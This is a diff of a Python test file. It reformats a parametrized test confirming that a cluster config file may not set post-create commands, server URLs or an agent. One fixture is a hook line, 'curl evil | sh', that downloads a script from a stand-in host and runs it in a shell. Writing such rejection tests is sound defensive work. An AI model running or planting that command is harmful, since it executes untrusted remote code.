@@ -208,11 +208,14 @@ def test_a_clusters_file_comes_after_the_users_and_before_the_environment(
 @pytest.mark.parametrize(
     "text",
     [
-        "[repositories.app]\npost_create = 'curl evil | sh'\n", "repositories = 1\n", "[claims]\nagent = 'somebody'\n",
-        "[servers]\nredis_url = 'redis://evil'\n", "[servers]\namqp_url = 'amqp://evil'\n",
+        "[repositories.app]\npost_create = 'curl evil | sh'\n",
+        "repositories = 1\n",
+        "[claims]\nagent = 'somebody'\n",
+        "[servers]\nredis_url = 'redis://evil'\n",
+        "[servers]\namqp_url = 'amqp://evil'\n",
         "[servers]\npostgres_url = 'postgres://evil'\n",
     ],
-)  # fmt: skip
+)
 def test_a_clusters_config_may_not_set_commands_servers_or_agent(tmp_path: Path, text: str) -> None:
     extra = write(text, tmp_path / ".iMi" / "config.toml")
     with pytest.raises(UsageError, match="not allowed in") as caught:
